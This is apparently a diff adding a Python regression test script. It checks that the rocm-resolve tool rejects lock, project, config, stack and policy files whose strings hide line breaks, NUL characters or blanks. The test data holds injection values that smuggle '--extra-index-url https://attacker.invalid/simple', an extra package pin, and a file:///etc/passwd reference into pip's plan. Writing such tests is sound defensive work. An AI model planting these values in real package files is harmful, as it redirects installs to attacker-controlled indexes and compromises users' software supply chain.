@@ -1,0 +1,242 @@
+#!/usr/bin/env python3
+"""Hardening, round three (issue 33), seen from the command line. Each case fails on
+caf3dbd (see the comment on each):
+  - text: a line break (LF, CR, VT, FF, \\x1c, U+0085, U+2028, U+2029), NUL or a blank
+    in an index URL, inside a string of uv.lock, pylock.toml, pyproject.toml, uv.toml,
+    a stack file or a policy is refused where it is read: exit 2 at file:line:col
+    naming the field, stdout only the fail-closed line; nothing reaches a plan line;
+  - NUL: a NUL in a TOML string no longer cuts it short (version "2.32\\u00005" was
+    planned as requests==2.32, "torch\\u0000evil" taken as torch)."""
+import json
+import os
+import subprocess
+import sys
+import tempfile
+
+src = os.environ["RR_SRCDIR"]
+build = os.environ["RR_BUILDDIR"]
+exe = os.path.join(build, "src", "cli", "rocm-resolve")
+venv = os.path.join(src, "fixtures", "venvs", "rocm72")
+checks = {"passed": 0, "failed": 0}
+FAIL_CLOSED = b"rocm-resolve failed, no plan: see its error above\n"
+
+
+def check(cond, what, detail=""):
+    checks["passed" if cond else "failed"] += 1
+    print(("ok   " if cond else "FAIL ") + what)
+    if not cond and detail:
+        print("     " + str(detail).replace("\n", "\n     "))
+
+
+def run(args, cwd=None, env=None, timeout=60):
+    try:
+        p = subprocess.run([exe] + args, cwd=cwd, env=env, capture_output=True, timeout=timeout,
+                           stdin=subprocess.DEVNULL)
+    except subprocess.TimeoutExpired:
+        return None
+    if b"runtime error:" in p.stderr or b"Sanitizer" in p.stderr:
+        check(False, "no sanitizer report: " + " ".join(args), p.stderr.decode(errors="replace"))
+    return p
+
+
+def write(path, text):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "w", encoding="utf-8", newline="") as f:
+        f.write(text)
+
+
+UV_LOCK = '''version = 1
+revision = 3
+requires-python = ">=3.10"
+
+[[package]]
+name = "demo"
+version = "0.1.0"
+source = { virtual = "." }
+dependencies = [{ name = "idna" }, { name = "six" }]
+
+[[package]]
+name = "idna"
+version = "3.10"
+source = { @IDNA@ }
+
+[[package]]
+name = "six"
+version = "1.17.0"
+source = { registry = "https://pypi.org/simple" }
+'''
+
+PYLOCK = '''lock-version = "1.0"
+created-by = "hand"
+
+[[packages]]
+name = "six"
+version = "1.17.0"
+wheels = [{ url = "https://files.example/six-1.17.0-py2.py3-none-any.whl", hashes = {} }]
+
+[[packages]]
+name = "idna"
+@IDNA@
+'''
+
+PYPROJECT = '''[project]
+name = "demo"
+version = "0.1.0"
+dependencies = [
+    "six>=1",
+    @IDNA@,
+]
+'''
+
+INJECT = "pytorch-triton==3.1.0"
+# TOML escapes of the characters that end a line for pip's str.splitlines(), and NUL
+BREAKS = {"LF": "\\n", "CR": "\\r", "VT": "\\u000b", "FF": "\\f", "FS": "\\u001c",
+          "NEL": "\\u0085", "LS": "\\u2028", "PS": "\\u2029", "NUL": "\\u0000"}
+
+
+def cases():
+    """(kind, file name, text, field the error must name, line of the string)"""
+    out = []
+    for key, esc in BREAKS.items():
+        url = "https://files.example/idna-3.10-py3-none-any.whl" + esc + INJECT
+        out.append((f"uv.lock url {key}", "uv.lock",
+                    UV_LOCK.replace("@IDNA@", f'url = "{url}"'), "source 'url'", 14))
+        out.append((f"uv.lock git {key}", "uv.lock",
+                    UV_LOCK.replace("@IDNA@", 'git = "https://git.example/idna' + esc + INJECT +
+                                    '#4f1c1a7d"'), "source 'git'", 14))
+        out.append((f"uv.lock registry {key}", "uv.lock",
+                    UV_LOCK.replace("@IDNA@", 'registry = "https://a.example/simple' + esc +
+                                    '--extra-index-url https://attacker.invalid/simple"'),
+                    "source 'registry'", 14))
+        out.append((f"pylock index {key}", "pylock.toml",
+                    PYLOCK.replace("@IDNA@", 'version = "3.10"\nindex = "https://a.example/simple'
+                                   + esc + '--extra-index-url https://attacker.invalid/simple"\n'
+                                   'wheels = [{ url = "https://files.example/idna-3.10-py3-none-'
+                                   'any.whl", hashes = {} }]'), "'index'", 12))
+        out.append((f"pylock archive.url {key}", "pylock.toml",
+                    PYLOCK.replace("@IDNA@", f'archive = {{ url = "{url}", hashes = {{}} }}'),
+                    "'url' of 'archive'", 11))
+        out.append((f"pylock vcs.url {key}", "pylock.toml",
+                    PYLOCK.replace("@IDNA@", 'vcs = { type = "git", url = "https://git.example/'
+                                   'idna' + esc + INJECT + '", commit-id = "4f1c1a7d" }'),
+                    "'url' of 'vcs'", 11))
+        out.append((f"pyproject name @ URL {key}", "pyproject.toml",
+                    PYPROJECT.replace("@IDNA@", f'"idna @ {url}"'),
+                    "an entry of [project] dependencies", 6))
+    # a raw U+2028 in a basic string (TOML allows it unescaped)
+    out.append(("uv.lock url raw LS", "uv.lock",
+                UV_LOCK.replace("@IDNA@", 'url = "https://files.example/idna.whl\u2028' + INJECT +
+                                '"'), "source 'url'", 14))
+    # a multi-line string holds a raw line feed
+    out.append(("pyproject multi-line", "pyproject.toml",
+                PYPROJECT.replace("@IDNA@", '"""idna @ https://files.example/idna.whl\n' + INJECT +
+                                  '"""'), "an entry of [project] dependencies", 6))
+    # a blank in an index URL adds an option on pip's line (shlex)
+    out.append(("uv.lock registry blank", "uv.lock",
+                UV_LOCK.replace("@IDNA@", 'registry = "https://a.example/simple '
+                                '--extra-index-url https://attacker.invalid/simple"'),
+                "source 'registry'", 14))
+    return out
+
+
+def test_text_rule(tmp):
+    """33.1: caf3dbd planned the injected line (check exit 0, the plan held
+    pytorch-triton==3.1.0 or --extra-index-url https://attacker.invalid/simple as a line
+    of its own); now each is exit 2 at file:line:col naming the field"""
+    for i, (what, name, text, field, line) in enumerate(cases()):
+        d = os.path.join(tmp, "inject", str(i))
+        path = os.path.join(d, name)
+        write(path, text)
+        for cmd in (["check"], []):
+            p = run(cmd + ["--no-index", "-q", "--venv", venv, name], cwd=d)
+            err = p.stderr.decode(errors="replace") if p else ""
+            where = f"{name}:{line}:"
+            ok = (p is not None and p.returncode == 2 and where in err and field in err and
+                  "refused" in err)
+            check(ok, f"{'check' if cmd else 'plan'} {what}: exit 2 at {where} naming {field}",
+                  f"rc={p.returncode if p else None}\n{err}\nstdout={p.stdout if p else ''}")
+            if not cmd and p is not None:
+                check(p.stdout == FAIL_CLOSED, f"plan {what}: stdout only the fail-closed line",
+                      p.stdout)
+                check(b"pytorch-triton" not in p.stdout and b"attacker" not in p.stdout,
+                      f"plan {what}: the injected text is nowhere on stdout", p.stdout)
+
+
+def test_text_rule_other_inputs(tmp):
+    """33.1: the same rule for uv.toml, a stack file and a policy (caf3dbd read them)"""
+    d = os.path.join(tmp, "other")
+    write(os.path.join(d, "requirements.txt"), "six\n")
+    # uv.toml: an index URL with a line break, read when uv is the installer
+    write(os.path.join(d, "uv.toml"),
+          'index-url = "https://a.example/simple\\n--extra-index-url https://attacker.invalid"\n')
+    env = dict(os.environ, XDG_CONFIG_HOME=os.path.join(d, "xdg"), UV_CONFIG_FILE="")
+    env.pop("UV_CONFIG_FILE")
+    p = run(["check", "--offline", "-q", "--installer", "uv", "--venv", venv, "requirements.txt"],
+            cwd=d, env=env)
+    err = p.stderr.decode(errors="replace") if p else ""
+    check(p is not None and p.returncode == 2 and "uv.toml:1:" in err and
+          "uv setting 'index-url'" in err,
+          "uv.toml index-url with a line break: exit 2 at uv.toml:1 naming the key",
+          f"rc={p.returncode if p else None}\n{err}")
+    os.remove(os.path.join(d, "uv.toml"))
+    # a stack file whose protected version holds a line break
+    st = run(["inspect", "--format", "json", "--venv", venv])
+    doc = json.loads(st.stdout)
+    for dist in doc["distributions"]:
+        if dist["name"] == "torch":
+            dist["version"] = dist["version"] + "\nnvidia-cublas-cu12==12.1.3.1"
+    write(os.path.join(d, "stack.json"), json.dumps(doc))
+    p = run(["--no-index", "-q", "--stack", "stack.json", "requirements.txt"], cwd=d)
+    err = p.stderr.decode(errors="replace") if p else ""
+    check(p is not None and p.returncode == 2 and "stack.json" in err and
+          ".version holds U+000A" in err and p.stdout == FAIL_CLOSED,
+          "stack file version with a line break: exit 2 naming the field",
+          f"rc={p.returncode if p else None}\n{err}\n{p.stdout if p else ''}")
+    # a policy rule's reason with U+2028 (it is written into the plan's comments)
+    write(os.path.join(d, "policy.json"), json.dumps({
+        "schema": 1, "cuda_only": [{"id": "x", "pattern": "^rr-x$",
+                                     "reason": "CUDA build\u2028" + INJECT}]}))
+    p = run(["--no-index", "-q", "--venv", venv, "--policy", "policy.json",
+             "requirements.txt"], cwd=d)
+    err = p.stderr.decode(errors="replace") if p else ""
+    check(p is not None and p.returncode == 2 and "policy.json:1:" in err and
+          '"reason" holds U+2028' in err,
+          "policy reason with U+2028: exit 2 at policy.json:line:col naming the key",
+          f"rc={p.returncode if p else None}\n{err}")
+
+
+def test_nul(tmp):
+    """33.1 (why 3): caf3dbd cut a TOML string at a NUL: version "2.32\\u00005" planned as
+    requests==2.32, a package "torch\\u0000evil" taken as torch, a pyproject
+    "requests\\u0000 @ file:///etc/passwd" planned as requests"""
+    d = os.path.join(tmp, "nul")
+    lock = UV_LOCK.replace("@IDNA@", 'registry = "https://pypi.org/simple"').replace(
+        'version = "3.10"', 'version = "3.10\\u00005"')
+    write(os.path.join(d, "a", "uv.lock"), lock)
+    lock = UV_LOCK.replace("@IDNA@", 'registry = "https://pypi.org/simple"').replace(
+        'name = "idna"', 'name = "torch\\u0000evil"').replace(
+        '{ name = "idna" }', '{ name = "torch\\u0000evil" }')
+    write(os.path.join(d, "b", "uv.lock"), lock)
+    write(os.path.join(d, "c", "pyproject.toml"),
+          PYPROJECT.replace("@IDNA@", '"requests\\u0000 @ file:///etc/passwd"'))
+    for sub, name, field in (("a", "uv.lock", "'version'"), ("b", "uv.lock", "'name'"),
+                             ("c", "pyproject.toml", "[project] dependencies")):
+        p = run(["--no-index", "-q", "--venv", venv, name], cwd=os.path.join(d, sub))
+        err = p.stderr.decode(errors="replace") if p else ""
+        check(p is not None and p.returncode == 2 and "holds U+0000 (NUL)" in err and
+              field in err and p.stdout == FAIL_CLOSED,
+              f"NUL in {sub}/{name} {field}: exit 2, not cut short",
+              f"rc={p.returncode if p else None}\n{err}\n{p.stdout if p else ''}")
+
+
+def main():
+    with tempfile.TemporaryDirectory(prefix="rr-harden3-") as tmp:
+        for t in (test_text_rule, test_text_rule_other_inputs, test_nul):
+            print(f"# {t.__name__}")
+            t(tmp)
+    print(f"{checks['passed']} passed, {checks['failed']} failed")
+    return 1 if checks["failed"] else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
